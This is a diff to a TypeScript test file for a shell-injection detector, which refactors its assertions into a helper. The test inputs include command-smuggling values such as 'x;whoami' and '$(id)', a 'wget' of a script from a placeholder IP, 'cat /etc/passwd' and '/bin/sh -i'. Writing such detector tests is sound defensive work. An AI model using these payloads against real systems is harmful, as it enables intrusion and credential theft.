@@ -15,6 +15,7 @@ import {
 } from "../../../src/internal/detection/families/shell/expansions.js"
 import { deobfuscateShell } from "../../../src/internal/detection/families/shell/normalize.js"
 import { cpuDoublingRatio } from "./doublingRatio.js"
+import { expectVerdicts as verdicts } from "./verdicts.js"
 
 const score = (value: string, paranoia: Paranoia = 1): number =>
   family.mayMatch(value)
@@ -23,6 +24,9 @@ const score = (value: string, paranoia: Paranoia = 1): number =>
 
 const rulesOf = (value: string, paranoia: Paranoia = 1): ReadonlyArray<string> =>
   family.scan(value, { location: "query", paranoia }).map((finding) => finding.ruleId)
+
+/** Each of `passing` stays below the threshold at level 1 and each of `refused` reaches it. */
+const expectVerdicts = (passing: ReadonlyArray<string>, refused: ReadonlyArray<string>): void => verdicts((value) => score(value, 1), passing, refused)
 
 describe("shell family", () => {
   it("undoes the shell's word-splitting tricks before reading commands", () => {
@@ -215,32 +219,26 @@ describe("shell family", () => {
   })
 
   it("reads a command name glued to `(` as a function call, which a shell never runs", () => {
-    for (const value of ["expand('file-{a,b,c}.jpg')", "const parts = split(line, ',')", "whoami()"]) {
-      expect(score(value), value).toBeLessThan(5)
-    }
-    // a space before the parenthesis, or a command after the call, still counts
-    for (const value of ["expand ('x') ; id", "x;whoami", "foo();wget http://203.0.113.9/a.sh"]) {
-      expect(score(value), value).toBeGreaterThanOrEqual(5)
-    }
+    expectVerdicts(
+      ["expand('file-{a,b,c}.jpg')", "const parts = split(line, ',')", "whoami()"],
+      // a space before the parenthesis, or a command after the call, still counts
+      ["expand ('x') ; id", "x;whoami", "foo();wget http://203.0.113.9/a.sh"]
+    )
   })
 
   it("reads no command right after a closing parenthesis, where a shell allows only a separator", () => {
-    for (const value of ["Report it to the Security Response Center (MSRC) at [https://msrc.example/report]", "call us (24/7) at 555-0100", "a) id"]) {
-      expect(score(value), value).toBeLessThan(5)
-    }
-    for (const value of ["a);id", "a)|id", "(id)", "$(id)", "x (y); wget http://203.0.113.9/a.sh"]) {
-      expect(score(value), value).toBeGreaterThanOrEqual(5)
-    }
+    expectVerdicts(
+      ["Report it to the Security Response Center (MSRC) at [https://msrc.example/report]", "call us (24/7) at 555-0100", "a) id"],
+      ["a);id", "a)|id", "(id)", "$(id)", "x (y); wget http://203.0.113.9/a.sh"]
+    )
   })
 
   it("reads a word that starts with `#!` or `# ` as a comment to the end of the line, as a shell does", () => {
-    for (const value of ["#!/usr/bin/env node\nconsole.log('hi')", "#!/usr/bin/env python3\nprint('hi')", "const line = '#!/usr/bin/env node'"]) {
-      expect(score(value), value).toBeLessThan(5)
-    }
-    // the command before the comment runs, and so does the next line
-    for (const value of ["|id # look", "x\n# setup\ncat /etc/passwd", "#!/bin/sh\n/bin/sh -i"]) {
-      expect(score(value), value).toBeGreaterThanOrEqual(5)
-    }
+    expectVerdicts(
+      ["#!/usr/bin/env node\nconsole.log('hi')", "#!/usr/bin/env python3\nprint('hi')", "const line = '#!/usr/bin/env node'"],
+      // the command before the comment runs, and so does the next line
+      ["|id # look", "x\n# setup\ncat /etc/passwd", "#!/bin/sh\n/bin/sh -i"]
+    )
   })
 
   it("reads a loop's increment as code, not as the g++ compiler", () => {
